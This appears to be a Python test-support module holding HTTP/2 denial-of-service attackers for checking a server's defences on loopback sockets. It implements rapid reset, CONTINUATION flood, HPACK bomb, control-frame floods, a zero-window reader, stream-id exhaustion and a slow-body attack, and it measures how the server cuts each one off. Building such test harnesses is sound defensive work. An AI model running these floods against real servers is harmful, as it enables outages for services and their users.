"""HTTP/2 attackers and their yardstick, over real loopback sockets (h2c prior knowledge or TLS with ALPN h2).

Each attack opens its own connection, is bounded in frames and seconds, and returns an `Observed`: the
GOAWAY the server sent (error code, last stream id), the RST_STREAM codes, the statuses it answered, how
much it sent, whether it stopped reading (our sends stalled), how long it took to cut the attacker off,
and, given the server's pid, how far the server's resident memory grew meanwhile.

Frames are built with hyperframe and header blocks with hpack (the libraries under h2), because the
attacks send what a conforming client library refuses to: endless CONTINUATION, resets in a loop, a
stream id below one already used. The ordinary client that measures latency meanwhile is a plain h2
client (`H2Client`) driven by the HTTP/1.1 tests' `OrdinaryClient`.

Error codes are RFC 9113 section 7's; the attacks themselves are the ones named in CVE-2023-44487 (rapid
reset), CVE-2024-27316 (CONTINUATION flood), CVE-2019-9512/9515/9518 (PING, SETTINGS and empty-frame floods).
"""

from __future__ import annotations

import contextlib
import ipaddress
import select
import socket
import ssl
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.events
import hpack
from h2.errors import ErrorCodes
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.support.attackers import OrdinaryClient

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_HEADER = 9
MAX_STREAM_ID = 2**31 - 1
# No byte of ours taken for this long means the server has stopped reading the connection: backpressure.
# (A server that reads slowly keeps taking some, so it does not count as stopped.)
STALL_S = 2.0
# The floods' socket buffers: small, so the server's unread answers pile up in the server, not the kernel.
FLOOD_BUFFERS = 8192
ENHANCE_YOUR_CALM = int(ErrorCodes.ENHANCE_YOUR_CALM)
PROTOCOL_ERROR = int(ErrorCodes.PROTOCOL_ERROR)
CANCEL = int(ErrorCodes.CANCEL)


# -- where to attack -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class H2Target:
    """A loopback HTTP/2 endpoint: h2c prior knowledge when `tls` is None, else TLS negotiating h2 by ALPN."""

    host: str
    port: int
    tls: ssl.SSLContext | None = None

    def __post_init__(self) -> None:
        if not ipaddress.ip_address(self.host).is_loopback:
            raise ValueError(f"attacks target loopback addresses only, not {self.host}")

    @property
    def scheme(self) -> bytes:
        return b"https" if self.tls is not None else b"http"

    @property
    def authority(self) -> bytes:
        host = f"[{self.host}]" if ":" in self.host else self.host
        return f"{host}:{self.port}".encode()

    def connect(self, timeout: float = 10.0, buffers: int | None = None) -> socket.socket:
        """A connected socket; `buffers` shrinks its kernel buffers both ways, so that a server which
        stops reading (or whose answers go unread) shows it within a few KiB instead of megabytes."""
        family = socket.AF_INET6 if ":" in self.host else socket.AF_INET
        sock = socket.socket(family, socket.SOCK_STREAM)
        if buffers is not None:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffers)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, buffers)
        sock.settimeout(timeout)
        try:
            sock.connect((self.host, self.port))
        except BaseException:
            sock.close()
            raise
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if self.tls is None:
            return sock
        self.tls.set_alpn_protocols(["h2"])
        try:
            wrapped = self.tls.wrap_socket(sock, server_hostname=self.host)
        except BaseException:
            sock.close()
            raise
        if wrapped.selected_alpn_protocol() != "h2":
            wrapped.close()
            raise ConnectionError(f"ALPN chose {wrapped.selected_alpn_protocol()!r}, not h2")
        return wrapped


def client_tls_context(cafile: str | None = None) -> ssl.SSLContext:
    """A client context offering h2 by ALPN; it verifies the server against `cafile` when given."""
    if cafile is not None:
        context = ssl.create_default_context(cafile=cafile)
    else:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


# -- what an attacker saw ------------------------------------------------------------------------------


@dataclass
class Observed:
    """What one attacking connection saw. Times are seconds since the attack started."""

    attack: str
    goaway_code: int | None = None
    goaway_last_stream: int | None = None
    rst_codes: Counter[int] = field(default_factory=Counter)
    statuses: dict[int, int] = field(default_factory=dict)  # stream id -> :status
    ended_streams: set[int] = field(default_factory=set)  # streams the server ended (END_STREAM)
    data_received: int = 0
    frames_sent: int = 0
    bytes_sent: int = 0
    streams_opened: int = 0
    closed: bool = False  # the server closed the TCP connection (or reset it)
    stalled: bool = False  # the server stopped reading: it took no byte of ours for STALL_S
    cut_off_after: float | None = None  # when the GOAWAY or the close came
    elapsed: float = 0.0
    server_rss_growth: int | None = None  # peak VmRSS above the start, bytes, when the pid was given

    @property
    def cut_off(self) -> bool:
        """The server ended the connection: an error GOAWAY, or the TCP connection closed."""
        return self.closed or (self.goaway_code is not None and self.goaway_code != int(ErrorCodes.NO_ERROR))

    def summary(self) -> str:
        goaway = (
            "none" if self.goaway_code is None else f"{error_name(self.goaway_code)} (last {self.goaway_last_stream})"
        )
        rsts = {error_name(code): count for code, count in self.rst_codes.items()}
        cut = "never" if self.cut_off_after is None else f"after {self.cut_off_after:.2f}s"
        rss = "" if self.server_rss_growth is None else f", server RSS +{self.server_rss_growth / 2**20:.1f} MiB"
        return (
            f"{self.attack}: GOAWAY {goaway}, RST {rsts or 'none'}, closed={self.closed}, stalled={self.stalled},"
            f" cut off {cut}; sent {self.frames_sent} frames / {self.bytes_sent} bytes on {self.streams_opened}"
            f" streams in {self.elapsed:.2f}s; statuses {Counter(self.statuses.values()) or 'none'},"
            f" {self.data_received} DATA bytes{rss}"
        )


def error_name(code: int) -> str:
    try:
        return ErrorCodes(code).name
    except ValueError:
        return f"0x{code:x}"


# -- the server's memory -------------------------------------------------------------------------------


def rss_bytes(pid: int) -> int:
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    return 0


class RssSampler:
    """Samples a process's VmRSS every 20 ms in a thread; `growth` is the peak above the first reading."""

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self.start = rss_bytes(pid)
        self.peak = self.start
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.wait(0.02):
            try:
                self.peak = max(self.peak, rss_bytes(self.pid))
            except OSError:
                return

    def stop(self) -> int:
        self._stop.set()
        self._thread.join(5)
        with contextlib.suppress(OSError):
            self.peak = max(self.peak, rss_bytes(self.pid))
        return self.peak - self.start


@contextlib.contextmanager
def watching(observed: Observed, server_pid: int | None) -> Iterator[float]:
    """Times the attack (yields its start) and, given a pid, records the server's RSS growth meanwhile."""
    sampler = RssSampler(server_pid) if server_pid is not None else None
    started = time.monotonic()
    try:
        yield started
    finally:
        observed.elapsed = time.monotonic() - started
        if sampler is not None:
            observed.server_rss_growth = sampler.stop()


# -- a connection that writes frames it builds ---------------------------------------------------------


def hpack_integer(value: int, prefix_bits: int, first_byte: int = 0) -> bytes:
    """RFC 7541 section 5.1: an integer in an N-bit prefix, the pattern bits of its first byte given."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = bytearray([first_byte | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal_without_indexing(name: bytes, value: bytes) -> bytes:
    """RFC 7541 section 6.2.2, new name, no Huffman: decoding it changes no table."""
    return b"\x00" + hpack_integer(len(name), 7) + name + hpack_integer(len(value), 7) + value


class RawH2:
    """A client connection that sends frames as given and reads back what the server sends.

    `pump()` reads whatever has arrived, records it in `observed`, acknowledges the server's SETTINGS and
    (with `auto_window`) returns flow-control credit for DATA it received, so that ordinary streams can
    run beside an attack on the same connection.
    """

    def __init__(
        self,
        target: H2Target,
        observed: Observed,
        settings: dict[int, int] | None = None,
        *,
        auto_window: bool = True,
        started: float | None = None,
        buffers: int | None = None,
    ) -> None:
        self.target = target
        self.observed = observed
        self.auto_window = auto_window
        self.started = time.monotonic() if started is None else started
        self.sock = target.connect(buffers=buffers)
        self.sock.settimeout(STALL_S)
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder(max_header_list_size=2**24)
        self._buffer = bytearray()
        self._header_block: tuple[int, bytearray] | None = None
        self._draining = False
        self.next_stream_id = 1
        self.send(PREFACE + SettingsFrame(0, settings or {}).serialize(), frames=1)

    # Writing.

    def send(self, data: bytes, frames: int = 1) -> bool:
        """Send everything; False once the connection is gone or the server has stopped reading."""
        if self.observed.closed or self.observed.stalled:
            return False
        view = memoryview(data)
        try:
            while view:
                # Each send waits up to STALL_S for room: a server that reads, however slowly, makes room.
                view = view[self.sock.send(view) :]
        except TimeoutError:
            self.observed.bytes_sent += len(data) - len(view)
            self.observed.stalled = True
            return False
        except (ssl.SSLError, OSError):
            if not self._draining:  # what the server sent before it closed (its GOAWAY) is still there to read
                self._draining = True
                self.pump()
            self._closed()
            return False
        self.observed.frames_sent += frames
        self.observed.bytes_sent += len(data)
        return True

    def header_block(self, method: bytes, path: bytes, extra: list[tuple[bytes, bytes]] | None = None) -> bytes:
        target = self.target
        headers = [
            (b":method", method),
            (b":scheme", target.scheme),
            (b":path", path),
            (b":authority", target.authority),
        ]
        return bytes(self.encoder.encode(headers + (extra or [])))

    def new_stream(self) -> int:
        stream_id = self.next_stream_id
        self.next_stream_id += 2
        self.observed.streams_opened += 1
        return stream_id

    def headers_frame(
        self, stream_id: int, block: bytes, *, end_stream: bool = True, end_headers: bool = True
    ) -> bytes:
        flags = [name for name, on in (("END_STREAM", end_stream), ("END_HEADERS", end_headers)) if on]
        return HeadersFrame(stream_id, block, flags=flags).serialize()

    def request(
        self,
        method: bytes = b"GET",
        path: bytes = b"/",
        body: bytes | None = None,
        extra: list[tuple[bytes, bytes]] | None = None,
    ) -> int:
        """Send one whole request on a new stream; returns its id."""
        stream_id = self.new_stream()
        frame = self.headers_frame(stream_id, self.header_block(method, path, extra), end_stream=body is None)
        if body is not None:
            frame += DataFrame(stream_id, body, flags=["END_STREAM"]).serialize()
        self.send(frame, frames=1 if body is None else 2)
        return stream_id

    # Reading.

    def pump(self, wait: float = 0.0) -> None:
        """Read and record whatever the server has sent, waiting up to `wait` seconds for the first byte."""
        while not self.observed.closed:
            try:
                pending = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending() > 0
                ready = pending or bool(select.select([self.sock], [], [], wait)[0])
            except (OSError, ValueError):
                self._closed()
                return
            if not ready:
                return
            wait = 0.0
            try:
                data = self.sock.recv(65536)
            except (TimeoutError, ssl.SSLWantReadError):
                return
            except (ssl.SSLError, OSError):
                data = b""
            if not data:
                self._closed()
                return
            self._buffer += data
            self._parse()

    def pump_until(self, done: Callable[[], bool], seconds: float) -> bool:
        deadline = time.monotonic() + seconds
        while not done() and not self.observed.closed and time.monotonic() < deadline:
            self.pump(0.05)
        return done()

    def _parse(self) -> None:
        while len(self._buffer) >= FRAME_HEADER:
            frame, length = Frame.parse_frame_header(memoryview(self._buffer)[:FRAME_HEADER])
            if len(self._buffer) < FRAME_HEADER + length:
                return
            frame.parse_body(memoryview(bytes(self._buffer[FRAME_HEADER : FRAME_HEADER + length])))
            del self._buffer[: FRAME_HEADER + length]
            self._record(frame, length)

    def _record(self, frame: Frame, length: int) -> None:
        observed = self.observed
        if isinstance(frame, GoAwayFrame):
            observed.goaway_code = frame.error_code
            observed.goaway_last_stream = frame.last_stream_id
            self._mark_cut_off()
        elif isinstance(frame, RstStreamFrame):
            observed.rst_codes[frame.error_code] += 1
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            self.send(SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
            self.send(PingFrame(0, frame.opaque_data, flags=["ACK"]).serialize())
        elif isinstance(frame, HeadersFrame | ContinuationFrame):
            self._header_fragment(frame)
        elif isinstance(frame, DataFrame):
            observed.data_received += len(frame.data)
            if self.auto_window and length:
                credit = (
                    WindowUpdateFrame(0, length).serialize() + WindowUpdateFrame(frame.stream_id, length).serialize()
                )
                self.send(credit, frames=2)
        if "END_STREAM" in frame.flags:
            observed.ended_streams.add(frame.stream_id)

    def _header_fragment(self, frame: HeadersFrame | ContinuationFrame) -> None:
        if isinstance(frame, HeadersFrame):
            self._header_block = (frame.stream_id, bytearray(frame.data))
        elif self._header_block is not None:
            self._header_block[1].extend(frame.data)
        if "END_HEADERS" in frame.flags and self._header_block is not None:
            stream_id, block = self._header_block
            self._header_block = None
            for name, value in self.decoder.decode(bytes(block), raw=True):
                if name == b":status":
                    self.observed.statuses.setdefault(stream_id, int(value))

    def _closed(self) -> None:
        self.observed.closed = True
        self._mark_cut_off()

    def _mark_cut_off(self) -> None:
        if self.observed.cut_off_after is None:
            self.observed.cut_off_after = time.monotonic() - self.started

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


def ended(observed: Observed, stream_id: int) -> Callable[[], bool]:
    return lambda: stream_id in observed.ended_streams


def answered(observed: Observed, stream_id: int) -> Callable[[], bool]:
    """Whether the server has ended `stream_id`, or reset a stream."""
    return lambda: stream_id in observed.ended_streams or bool(observed.rst_codes)


# -- the attacks ---------------------------------------------------------------------------------------


def repeated(attack: Callable[[], Observed], seconds: float) -> list[Observed]:
    """The attack again on a new connection each time the server cuts it off, for at least `seconds`,
    so that an ordinary client measures during a whole attack, not a fast defence's first second."""
    started = time.monotonic()
    observed = [attack()]
    while time.monotonic() - started < seconds:
        observed.append(attack())
    return observed


def rapid_reset(
    target: H2Target, *, path: bytes = b"/slow", streams: int = 20_000, batch: int = 100, seconds: float = 10.0,
    server_pid: int | None = None,
) -> Observed:  # fmt: skip
    """CVE-2023-44487: HEADERS for a whole request, then RST_STREAM(CANCEL) at once, `batch` streams per
    write, until the server sends GOAWAY or closes, `streams` have been opened, or `seconds` pass. A
    server that keeps starting the app for streams the client has already cancelled does unbounded work
    without ever exceeding its concurrent-stream limit."""
    observed = Observed("rapid reset")
    with watching(observed, server_pid) as started:
        conn = RawH2(target, observed, started=started)
        try:
            conn.pump(0.5)  # the server's SETTINGS
            while observed.streams_opened < streams and time.monotonic() - started < seconds:
                chunk = bytearray()
                for _ in range(min(batch, streams - observed.streams_opened)):
                    stream_id = conn.new_stream()
                    chunk += conn.headers_frame(stream_id, conn.header_block(b"GET", path))
                    chunk += RstStreamFrame(stream_id, CANCEL).serialize()
                if not conn.send(bytes(chunk), frames=2 * batch):
                    break
                conn.pump()
                if observed.goaway_code is not None:
                    break
            conn.pump(1.0)
        finally:
            conn.close()
    return observed


def continuation_flood(
    target: H2Target, *, frame_size: int = 16_384, total: int = 64 * 2**20, seconds: float = 10.0,
    server_pid: int | None = None,
) -> Observed:  # fmt: skip
    """CVE-2024-27316: HEADERS without END_HEADERS, then CONTINUATION frames of well-formed literal header
    fields that never end the block, until the server cuts the connection off, `total` bytes have been
    sent or `seconds` pass. The server must stop at its header size limit rather than buffer the block."""
    observed = Observed("CONTINUATION flood")
    field_bytes = literal_without_indexing(b"x-flood", b"v" * 4000)
    fragment = field_bytes * max(1, frame_size // len(field_bytes))
    with watching(observed, server_pid) as started:
        conn = RawH2(target, observed, started=started)
        try:
            conn.pump(0.5)
            stream_id = conn.new_stream()
            conn.send(conn.headers_frame(stream_id, conn.header_block(b"GET", b"/ok"), end_headers=False))
            burst = ContinuationFrame(stream_id, fragment).serialize() * 16
            while observed.bytes_sent < total and time.monotonic() - started < seconds:
                if not conn.send(burst, frames=16):
                    break
                conn.pump()
                if observed.goaway_code is not None:
                    break
            conn.pump_until(lambda: observed.cut_off, 3.0)
        finally:
            conn.close()
    return observed


def hpack_bomb(
    target: H2Target, *, path: bytes = b"/headers", value_size: int = 4000, references: int = 12_000,
    requests: int = 10, seconds: float = 10.0, server_pid: int | None = None,
) -> Observed:  # fmt: skip
    """A header field of `value_size` bytes inserted into the dynamic table, then referenced `references`
    times by one-byte indexed fields in the same block (about 48 MB decoded from one 16 KB frame), on up
    to `requests` streams. The decoded size must count against the header size limit: each stream is
    refused (RST_STREAM, a 431, or GOAWAY), never handed to the app."""
    observed = Observed("HPACK bomb")
    bomb = (b"x-bomb", b"b" * value_size)
    with watching(observed, server_pid) as started:
        conn = RawH2(target, observed, started=started)
        try:
            conn.pump(0.5)
            for _ in range(requests):
                stream_id = conn.new_stream()
                block = conn.header_block(b"GET", path, [bomb])
                reference = bytes(conn.encoder.encode([bomb]))  # the indexed field: changes no table
                if not conn.send(conn.headers_frame(stream_id, block + reference * references)):
                    break
                conn.pump_until(answered(observed, stream_id), 2.0)
                if observed.cut_off or time.monotonic() - started > seconds:
                    break
            conn.pump(0.5)
        finally:
            conn.close()
    return observed


def control_flood(
    target: H2Target, kind: str, *, frames: int = 1_000_000, batch: int = 2_000, seconds: float = 10.0,
    server_pid: int | None = None,
) -> Observed:  # fmt: skip
    """A flood of frames that each cost the server work and achieve nothing, sent without ever reading
    the answers: `kind` is "settings" (each must be acknowledged), "ping" (each must be answered),
    "empty-data" (zero-length DATA on an open request stream) or "window-update" (increments of 1). It
    runs until the server cuts it off, stops reading (backpressure), `frames` are sent or `seconds` pass."""
    observed = Observed(f"{kind} flood")
    with watching(observed, server_pid) as started:
        conn = RawH2(target, observed, started=started, buffers=FLOOD_BUFFERS)
        try:
            conn.pump(0.5)
            one = flood_frame(conn, kind)
            burst = one * batch
            while observed.frames_sent < frames and time.monotonic() - started < seconds:
                if not conn.send(burst, frames=batch):
                    break
            conn.pump_until(lambda: observed.cut_off, 2.0)
        finally:
            conn.close()
    return observed


def flood_frame(conn: RawH2, kind: str) -> bytes:
    if kind == "settings":
        return SettingsFrame(0, {SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize()
    if kind == "ping":
        return PingFrame(0, b"\x00" * 8).serialize()
    if kind == "window-update":
        return WindowUpdateFrame(0, 1).serialize()
    if kind == "empty-data":
        stream_id = conn.new_stream()  # a POST whose body never comes: only empty DATA frames
        conn.send(conn.headers_frame(stream_id, conn.header_block(b"POST", b"/upload"), end_stream=False))
        return DataFrame(stream_id, b"").serialize()
    raise ValueError(f"unknown flood {kind!r}")


def zero_window_reader(
    target: H2Target, *, path: bytes = b"/big", seconds: float = 10.0, server_pid: int | None = None
) -> Observed:
    """Asks for a large response with SETTINGS_INITIAL_WINDOW_SIZE 0 and never grants a byte of window:
    the server can send nothing, so it must hold the app back (bounded memory) and, below its minimum
    response data rate, end the stream or the connection."""
    observed = Observed("zero-window reader")
    with watching(observed, server_pid) as started:
        conn = RawH2(target, observed, {SettingsFrame.INITIAL_WINDOW_SIZE: 0}, auto_window=False, started=started)
        try:
            conn.pump(0.5)
            stream_id = conn.request(b"GET", path)
            conn.pump_until(lambda: stream_id in observed.ended_streams or bool(observed.rst_codes), seconds)
            if observed.rst_codes or stream_id in observed.ended_streams:
                observed.cut_off_after = observed.cut_off_after or time.monotonic() - started
        finally:
            conn.close()
    return observed


def stream_id_exhaustion(
    target: H2Target, *, path: bytes = b"/ok", seconds: float = 5.0, server_pid: int | None = None
) -> Observed:
    """Stream 1, then the highest stream id there is (2^31-1: every id between is now closed and the
    connection can open no more), then stream 3, which the server must refuse as a connection error
    (GOAWAY PROTOCOL_ERROR, RFC 9113 section 5.1.1) without keeping anything for the skipped ids."""
    observed = Observed("stream-id exhaustion")
    with watching(observed, server_pid) as started:
        conn = RawH2(target, observed, started=started)
        try:
            conn.pump(0.5)
            first = conn.request(b"GET", path)
            conn.next_stream_id = MAX_STREAM_ID
            last = conn.request(b"GET", path)
            conn.pump_until(lambda: {first, last} <= observed.ended_streams, seconds)
            conn.next_stream_id = 3
            conn.request(b"GET", path)
            conn.pump_until(lambda: observed.cut_off, seconds)
        finally:
            conn.close()
    return observed


@dataclass
class SlowBodyObserved:
    """A stream that sends its body a byte at a time, and the ordinary streams beside it on one connection."""

    slow: Observed
    slow_ended_after: float | None = None  # when the server reset or answered the slow stream
    latencies: list[float] = field(default_factory=list)  # of the ordinary streams, seconds
    failures: list[str] = field(default_factory=list)

    def p99(self) -> float:
        return percentile(self.latencies, 0.99)


def slow_body_beside_normal_streams(
    target: H2Target, *, path: bytes = b"/upload", ordinary: bytes = b"/ok", seconds: float = 8.0,
    drip_every: float = 0.2, server_pid: int | None = None,
) -> SlowBodyObserved:  # fmt: skip
    """One POST announces a 1 MB body and sends one byte every `drip_every` seconds; meanwhile ordinary
    GETs run one after another on the same connection and are timed. A slow body must stall only its
    own stream; with a minimum request body rate the server then resets it (or ends the connection)."""
    observed = Observed("slow body")
    result = SlowBodyObserved(observed)
    with watching(observed, server_pid) as started:
        conn = RawH2(target, observed, started=started)
        try:
            conn.pump(0.5)
            slow = conn.new_stream()
            head = conn.header_block(b"POST", path, [(b"content-length", b"1000000")])
            conn.send(conn.headers_frame(slow, head, end_stream=False))
            next_drip = 0.0
            while time.monotonic() - started < seconds and not observed.cut_off:
                now = time.monotonic()
                if now >= next_drip and slow not in observed.ended_streams and not observed.rst_codes:
                    conn.send(DataFrame(slow, b"x").serialize())
                    next_drip = now + drip_every
                stream_id = conn.request(b"GET", ordinary)
                sent_at = time.monotonic()
                if conn.pump_until(ended(observed, stream_id), 5.0):
                    result.latencies.append(time.monotonic() - sent_at)
                    if observed.statuses.get(stream_id) != 200:
                        result.failures.append(f"stream {stream_id}: status {observed.statuses.get(stream_id)}")
                else:
                    result.failures.append(f"stream {stream_id}: no answer within 5s")
                if result.slow_ended_after is None and (observed.rst_codes or slow in observed.ended_streams):
                    result.slow_ended_after = time.monotonic() - started
                time.sleep(0.01)
        finally:
            conn.close()
    return result


# -- the ordinary client -------------------------------------------------------------------------------


def percentile(values: list[float], share: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(len(ordered) * share))] if ordered else float("inf")


@dataclass(frozen=True)
class H2Response:
    status: int
    body: bytes


class H2Client:
    """A blocking h2 client on one connection, one request at a time."""

    def __init__(self, target: H2Target, timeout: float = 5.0) -> None:
        self.target = target
        self.sock = target.connect(timeout)
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.conn.initiate_connection()
        self.sock.sendall(self.conn.data_to_send())

    def request(self, method: str = "GET", path: str = "/ok", body: bytes | None = None) -> H2Response:
        """Send one request and read its whole answer."""
        target = self.target
        stream_id = self.conn.get_next_available_stream_id()
        headers = [(":method", method), (":scheme", target.scheme.decode()), (":path", path)]
        headers.append((":authority", target.authority.decode()))
        self.conn.send_headers(stream_id, headers, end_stream=body is None)
        if body is not None:
            self.conn.send_data(stream_id, body, end_stream=True)
        self.sock.sendall(self.conn.data_to_send())
        status, parts = 0, bytearray()
        while True:
            data = self.sock.recv(65536)
            if not data:
                raise ConnectionError("the server closed the connection")
            for event in self.conn.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived) and event.stream_id == stream_id:
                    status = int(dict(event.headers)[b":status"])
                elif isinstance(event, h2.events.DataReceived) and event.stream_id == stream_id:
                    parts += event.data
                    self.conn.acknowledge_received_data(event.flow_controlled_length, stream_id)
                elif isinstance(event, h2.events.StreamReset) and event.stream_id == stream_id:
                    raise ConnectionError(f"stream reset: {error_name(int(event.error_code))}")
                elif isinstance(event, h2.events.ConnectionTerminated):
                    raise ConnectionError(f"GOAWAY {error_name(int(event.error_code or 0))}")
                elif isinstance(event, h2.events.StreamEnded) and event.stream_id == stream_id:
                    self.sock.sendall(self.conn.data_to_send())
                    return H2Response(status, bytes(parts))
            self.sock.sendall(self.conn.data_to_send())

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


@contextlib.contextmanager
def ordinary_client(target: H2Target) -> Iterator[OrdinaryClient]:
    """The ordinary client of tests/support/attackers.py asking over h2, for the duration of the block."""
    client = OrdinaryClient(lambda: H2Client(target))
    client.start()
    try:
        yield client
    finally:
        client.stop.set()
        client.join(10)
